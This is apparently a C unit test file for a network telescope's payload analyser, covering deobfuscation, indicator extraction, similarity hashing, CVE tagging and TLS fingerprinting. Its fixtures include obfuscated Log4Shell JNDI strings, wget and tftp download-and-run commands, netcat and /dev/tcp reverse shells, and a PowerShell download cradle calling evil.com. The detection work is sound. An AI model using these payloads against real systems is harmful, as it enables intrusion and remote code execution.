/* tests/unit/telescope/test_payload.c - first payloads: undone, named, near, never slow. */
#include "tests/test.h"

#include "base/addr.h"
#include "telescope/payload_priv.h"

#include <time.h>

static struct noro_arena *arena;
static struct noro_rules *checks;

static int load(void **state)
{
	struct noro_error err = { 0 };
	const char *path;

	(void)state;
	arena = noro_arena_new(0);
	path = noro_arena_printf(arena, "%s/knowledge/checks", getenv("NOROSHI_SOURCE"));
	if (noro_rules_load(arena, &path, 1, NULL, &checks, &err) != NORO_OK) {
		print_error("%s: %s %s at %llu\n", err.where, err.msg, err.arg[0],
			(unsigned long long)err.at);
		return -1;
	}
	return 0;
}

static int unload(void **state)
{
	(void)state;
	noro_arena_free(arena);
	return 0;
}

/* --- the text --- */

static void what_hides_it_is_undone(void **state)
{
	static const struct {
		const char *from, *to;
	} row[] = {
		{ "plain text", "plain text" },
		{ "a%2fb%252Fc", "a/b/c" },
		{ "\\x77\\x67et \\u0024{jndi:ldap://x/}", "wget ${jndi:ldap://x/}" },
		{ "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://h/a}", "${jndi:ldap://h/a}" },
		{ "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://h/a}",
			"${jndi:rmi://h/a}" },
		{ "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap://h/a}",
			"${jndi:ldap://h/a}" },
		{ "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://h/a}", "${jndi:ldap://h/a}" },
		{ "${${upper:j}ndi:dns://h/a}", "${jndi:dns://h/a}" },
		{ "${${::-${::-j}}ndi:ldap://h/a}", "${jndi:ldap://h/a}" },
		{ "%24%7bjndi%3aldap%3a%2f%2fh%2fa%7d", "${jndi:ldap://h/a}" },
		{ "wget${IFS}http://h/a;sh$IFS$9a", "wget http://h/a;sh a" },
		{ "a%2", "a%2" },
		{ "\\x4", "\\x4" },
		{ "GET /A%2FB?x=1+2%2B3 HTTP/1.1\r\nHost: a+b\r\n\r\nc+d",
			"GET /A/B?x=1 2+3 HTTP/1.1\nHost: a+b\r\n\nc+d" },
		{ "POST / HTTP/1.1\r\ncontent-type: application/x-www-form-urlencoded\r\n\r\na=b+c",
			"POST / HTTP/1.1\ncontent-type: application/x-www-form-urlencoded\r\n\na=b "
			"c" },
		{ "GET /%3fa%20b?c HTTP/1.0", "GET /?a b?c HTTP/1.0\n" },
		{ "d2dldCBodHRwOi8vMTkyLjAuMi4xL2E=",
			"d2dldCBodHRwOi8vMTkyLjAuMi4xL2E=\nwget http://192.0.2.1/a" },
		{ "ldap://h/Basic/Command/Base64/d2dldCBodHRwOi8vMTkyLjAuMi4xL2E",
			"ldap://h/Basic/Command/Base64/d2dldCBodHRwOi8vMTkyLjAuMi4xL2E\n"
			"wget http://192.0.2.1/a" },
	};
	struct payload_plain p = { .request = false };

	(void)state;
	for (size_t i = 0; i < sizeof(row) / sizeof(row[0]); i++) {
		assert_int_equal(payload_plain(&p, noro_view_str(row[i].from)), NORO_OK);
		assert_string_equal(p.text.p, row[i].to);
	}
	payload_plain_done(&p);
}

static void a_request_has_parts(void **state)
{
	struct payload_plain p = { .request = false };
	struct noro_view v;

	(void)state;
	assert_int_equal(payload_plain(&p, NORO_V("POST /Cgi-Bin/%41?b=%26 HTTP/1.1\r\n"
						  "Host: h\r\nSOAPAction: %61\r\n\r\nbody")),
		NORO_OK);
	payload_lower_path(&p);
	assert_true(p.request);
	assert_view_is(p.part.method, "POST");
	assert_view_is(p.part.path, "/cgi-bin/a");
	assert_view_is(p.part.query, "b=&");
	assert_view_is(p.part.version, "HTTP/1.1");
	assert_view_is(p.part.body, "body");
	assert_true(payload_header(p.part.headers, NORO_V("soapaction"), &v));
	assert_view_is(v, "a");
	assert_false(payload_header(p.part.headers, NORO_V("cookie"), &v));
	static const char *const none[] = { "SSH-2.0-Go\r\n", "OPTIONS sip:a SIP/2.0\r\n", "GET",
		"GET ", "\x16\x03\x01", "1 / HTTP/1.0", "EVAL x y", "" };
	for (size_t i = 0; i < sizeof(none) / sizeof(none[0]); i++) {
		assert_int_equal(payload_plain(&p, noro_view_str(none[i])), NORO_OK);
		assert_false(p.request);
	}
	payload_plain_done(&p);
}

/* --- what it names --- */

static void names_of(const char *text, char *out, size_t cap)
{
	struct noro_arena *a = noro_arena_new(0);
	struct payload_names names = { .a = a, .host = NORO_V("198.51.100.1:80") };
	size_t n = 0;

	out[0] = '\0';
	assert_int_equal(payload_names(&names, noro_view_str(text)), NORO_OK);
	for (size_t i = 0; i < names.n; i++)
		n += (size_t)snprintf(out + n, cap - n, "%s%s", i ? " " : "", names.item[i]);
	noro_arena_free(a);
}

static void it_names_where_things_come_from(void **state)
{
	static const struct {
		const char *text, *names;
	} row[] = {
		{ "cd /tmp; wget http://192.0.2.1/a.sh -O x.sh; sh x.sh",
			"http://192.0.2.1/a.sh 192.0.2.1" },
		{ "wget 192.0.2.1/a.sh;sh a.sh", "192.0.2.1/a.sh 192.0.2.1" },
		{ "busybox tftp -g -r a.sh 192.0.2.1", "192.0.2.1" },
		{ "tftp 192.0.2.1 -c get a.sh", "192.0.2.1" },
		{ "/bin/busybox ftpget -u anonymous -P 21 192.0.2.1 a.sh a.sh", "192.0.2.1" },
		{ "curl -O bad.example.com:8080/a", "bad.example.com:8080/a bad.example.com" },
		{ "tftp -g -r a evil.com", "evil.com" },
		{ "nc 192.0.2.1 4444 -e /bin/sh", "192.0.2.1" },
		{ "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "192.0.2.1" },
		{ "${jndi:ldap://192.0.2.1:1389/a}", "ldap://192.0.2.1:1389/a 192.0.2.1" },
		{ "IEX(New-Object Net.WebClient).DownloadString('http://evil.com/a.ps1')",
			"http://evil.com/a.ps1 evil.com" },
		{ "stratum+tcp://pool.evil.com:3333",
			"stratum+tcp://pool.evil.com:3333 pool.evil.com" },
		{ "http://u:p@[2001:db8::1]:8080/x",
			"http://u:p@[2001:db8::1]:8080/x 2001:db8::1" },
		{ "Referer: http://198.51.100.1/x", "" },
		{ "http:// wget ; x.sh wget", "" },
		{ "-u 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa -p x",
			"1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa" },
		{ "-u 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb -p x", "" },
		/* Monero: an address, a subaddress, one with a payment id; and a digit that is off
		 */
		{ "xmrig -u "
		  "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7"
		  "f2wfn3RVGQBEP3A",
			"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2"
			"VBBEt7f2wfn3RVGQBEP3A" },
		{ "888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwMVgN5S9"
		  "cQUiyoogDavup3H x",
			"888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwM"
			"VgN5S9cQUiyoogDavup3H" },
		{ "4DrvGduF3ynBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7"
		  "f2wfn3RVPkQhNkvcj1x1ziWUt9",
			"4DrvGduF3ynBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2"
			"VBBEt7f2wfn3RVPkQhNkvcj1x1ziWUt9" },
		{ "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7"
		  "f2wfn3RVGQBEP3B",
			"" },
		{ "4zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz"
		  "zzzzzzzzzzzzzzz",
			"" },
	};
	char out[1024];

	(void)state;
	for (size_t i = 0; i < sizeof(row) / sizeof(row[0]); i++) {
		names_of(row[i].text, out, sizeof(out));
		assert_string_equal(out, row[i].names);
	}
}

/* --- near and far --- */

static unsigned apart(const char *x, const char *y)
{
	struct payload_plain p = { .request = false };
	uint64_t h[2];
	const char *text[] = { x, y };

	for (size_t i = 0; i < 2; i++) {
		assert_int_equal(payload_plain(&p, noro_view_str(text[i])), NORO_OK);
		h[i] = payload_simhash(noro_view(p.text.p, p.own), p.request);
	}
	payload_plain_done(&p);
	return (unsigned)__builtin_popcountll(h[0] ^ h[1]);
}

static void near_texts_are_near_numbers(void **state)
{
	(void)state;
	assert_int_equal(
		apart("GET /a HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: x/1.2\r\n\r\n",
			"GET /a HTTP/1.1\r\nHost: h.example\r\nUser-Agent: x/3.44\r\n\r\n"),
		0);
	assert_int_equal(apart("cd /tmp; wget http://192.0.2.1/a; sh a",
				 "cd /tmp; wget http://198.51.100.77/a; sh a"),
		0);
	assert_int_equal(apart("GET /%61 HTTP/1.1\r\n\r\n", "GET /a HTTP/1.1\r\n\r\n"), 0);
	assert_true(apart("GET /login HTTP/1.1\r\n\r\n", "POST /cgi-bin/x.cgi HTTP/1.1\r\n\r\n") >
		    NORO_PAYLOAD_NEAR);
	assert_true(apart("\x16\x03\x01\x02", "SSH-2.0-Go") > NORO_PAYLOAD_NEAR);
}

/* --- the checks --- */

static void judged(struct noro_payload_rules *r, struct noro_arena *a, const char *bytes, size_t n,
	const char *port, struct noro_payload *ret)
{
	struct noro_error err = { 0 };

	*ret = (struct noro_payload){ .byte = (const uint8_t *)bytes, .n = n, .port = port };
	assert_int_equal(noro_payload_judge(r, a, ret, &err), NORO_OK);
}

static bool has(const struct noro_list *list, const char *what)
{
	for (size_t i = 0; i < list->n; i++)
		if (strcmp(list->item[i], what) == 0)
			return true;
	return false;
}

static void vulnerabilities_are_named(void **state)
{
	static const struct {
		const char *bytes, *cve;
	} row[] = {
		{ "GET / HTTP/1.1\r\nHost: h\r\nX-Api-Version: ${jndi:ldap://192.0.2.1/a}\r\n\r\n",
			"CVE-2021-44228" },
		{ "GET /?x=%24%7B%24%7Blower%3Aj%7Dndi:ldap%3A%2F%2F192.0.2.1%2Fa%7D "
		  "HTTP/1.1\r\n\r\n",
			"CVE-2021-44228" },
		{ "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://192.0.2.1/a}", "CVE-2021-44228" },
		{ "\\u0024\\u007bjndi:ldap://192.0.2.1/a}", "CVE-2021-44228" },
		{ "POST /%2577ebui_%2577sma_Http HTTP/1.1\r\nHost: h\r\n\r\n", "CVE-2023-20198" },
	};
	static const char *const harmless[] = { "GET / HTTP/1.1\r\nHost: h\r\n\r\n",
		"GET /docs/jndi?x=${lower:a} HTTP/1.1\r\n\r\n", "SSH-2.0-Go\r\n", "\x16\x03\x01",
		"" };
	struct noro_arena *a = noro_arena_new(0);
	struct noro_payload_rules *r;
	struct noro_error err = { 0 };
	struct noro_payload m;

	(void)state;
	assert_int_equal(noro_payload_rules_new(checks, &r, &err), NORO_OK);
	for (size_t i = 0; i < sizeof(row) / sizeof(row[0]); i++) {
		judged(r, a, row[i].bytes, strlen(row[i].bytes), "tcp/8080", &m);
		if (!has(&m.cve, row[i].cve))
			fail_msg("%s is not %s", row[i].bytes, row[i].cve);
		assert_true(m.rules.n > 0);
		assert_int_equal(strlen(m.sha256), 64);
	}
	for (size_t i = 0; i < sizeof(harmless) / sizeof(harmless[0]); i++) {
		judged(r, a, harmless[i], strlen(harmless[i]), "tcp/80", &m);
		assert_int_equal(m.rules.n, 0);
		assert_int_equal(m.cve.n, 0);
	}
	noro_payload_rules_free(r);
	noro_arena_free(a);
}

/* --- hostile --- */

static const char whole[] =
	"POST /A%2e%2e/x.php?c=${${lower:j}ndi:ldap://192.0.2.1/a}&d=%24%7B%7D HTTP/1.1\r\n"
	"Host: h\r\nCookie: \\x41\\u0042=wget${IFS}192.0.2.1/x\r\n\r\n"
	"d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa http://u@evil.com:1/";

/* Who asks over TLS is told by how, whatever is random in it, and whom it asks for is a name. */
static void a_tls_client_has_a_fingerprint_and_asks_for_a_name(void **state)
{
	uint8_t hello[] = "\x16\3\1\0\x47\1\0\0\x43\3\3"
			  "01234567890123456789012345678901\0\0\4\x13\1\xc0\x2b\1\0\0\x16"
			  "\0\0\0\x12\0\x10\0\0\x0dvpn.example.o";
	const size_t n = sizeof(hello) - 1;
	struct noro_payload_rules *r;
	struct noro_payload m, other;

	(void)state;
	assert_int_equal(noro_payload_rules_new(checks, &r, NULL), NORO_OK);
	m = (struct noro_payload){ .byte = hello, .n = n, .port = "tcp/443" };
	assert_int_equal(noro_payload_judge(r, arena, &m, NULL), NORO_OK);
	assert_non_null(m.ja4);
	assert_memory_equal(m.ja4, "t12d020100_", 11);
	assert_int_equal(m.urls.n, 1);
	assert_string_equal(m.urls.item[0], "vpn.example.o");
	memcpy(hello + 11, "another random number of 32 byte", 32);
	other = (struct noro_payload){ .byte = hello, .n = n, .port = "tcp/443" };
	assert_int_equal(noro_payload_judge(r, arena, &other, NULL), NORO_OK);
	assert_string_equal(other.ja4, m.ja4);
	assert_true(other.simhash == m.simhash);
	assert_string_not_equal(other.sha256, m.sha256);
	/* one that is cut has none */
	other.n = n - 1;
	assert_int_equal(noro_payload_judge(r, arena, &other, NULL), NORO_OK);
	assert_null(other.ja4);
	noro_payload_rules_free(r);
}

static void every_prefix_is_judged(void **state)
{
	struct noro_arena *a = noro_arena_new(0);
	struct noro_payload_rules *r;
	struct noro_error err = { 0 };

	(void)state;
	assert_int_equal(noro_payload_rules_new(checks, &r, &err), NORO_OK);
	for (size_t n = 0; n < sizeof(whole); n++) {
		uint8_t *exact = test_exact_copy(whole, n);
		struct noro_payload m;

		judged(r, a, (const char *)exact, n, "tcp/80", &m);
		free(exact);
	}
	noro_payload_rules_free(r);
	noro_arena_free(a);
}

static bool try_judge(void *arg)
{
	struct noro_arena *a = noro_arena_new(0);
	struct noro_payload_rules *r = NULL;
	struct noro_payload m = { .byte = (const uint8_t *)whole, .n = strlen(whole) };
	enum noro_status st = a ? noro_payload_rules_new(checks, &r, NULL) : NORO_ENOMEM;

	(void)arg;
	if (st == NORO_OK)
		st = noro_payload_judge(r, a, &m, NULL);
	assert_true(st == NORO_OK || st == NORO_ENOMEM);
	noro_payload_rules_free(r);
	noro_arena_free(a);
	return st == NORO_OK && m.rules.n > 0;
}

static void without_memory_it_says_so(void **state)
{
	(void)state;
	test_allocation_sweep(try_judge, NULL, 2000);
}

static void nothing_makes_it_slow(void **state)
{
	static const char *const unit[] = { "%25", "${${lower:", "${:-", "/", "a/", "http://",
		"wget ", "\\x24{", "jndi:", "autodiscover.json@", "../",
		"1A1zP1eP5QGefi2DMPTfTL5SLmv ", "QUJD/", "() {", "a=b&", "\n", "GET /", ":",
		"${jndi:${jndi:" };
	enum { ROUNDS = 20 };
	struct noro_arena *a = noro_arena_new(0);
	struct noro_payload_rules *r;
	struct noro_error err = { 0 };
	double slowest = 0;

	(void)state;
	assert_int_equal(noro_payload_rules_new(checks, &r, &err), NORO_OK);
	for (size_t i = 0; i < sizeof(unit) / sizeof(unit[0]); i++) {
		char bytes[NORO_PAYLOAD_MAX];
		struct noro_payload m;
		clock_t start;
		double spent;
		size_t n = (size_t)snprintf(bytes, sizeof(bytes), "GET /?");

		for (; n < sizeof(bytes); n++)
			bytes[n] = unit[i][(n - 6) % strlen(unit[i])];
		start = clock();
		for (int k = 0; k < ROUNDS; k++)
			judged(r, a, bytes + 6 * (k % 2), sizeof(bytes) - 6, "tcp/80", &m);
		spent = (double)(clock() - start) / CLOCKS_PER_SEC / ROUNDS;
		slowest = spent > slowest ? spent : slowest;
	}
	print_message("# slowest of hostile payloads: %.3f ms of processor\n", slowest * 1e3);
	assert_true(slowest < 0.25); /* sanitizers and a loaded machine included */
	noro_payload_rules_free(r);
	noro_arena_free(a);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(what_hides_it_is_undone),
		cmocka_unit_test(a_request_has_parts),
		cmocka_unit_test(it_names_where_things_come_from),
		cmocka_unit_test(near_texts_are_near_numbers),
		cmocka_unit_test(vulnerabilities_are_named),
		cmocka_unit_test(a_tls_client_has_a_fingerprint_and_asks_for_a_name),
		cmocka_unit_test(every_prefix_is_judged),
		cmocka_unit_test(without_memory_it_says_so),
		cmocka_unit_test(nothing_makes_it_slow),
	};

	return cmocka_run_group_tests(tests, load, unload);
}
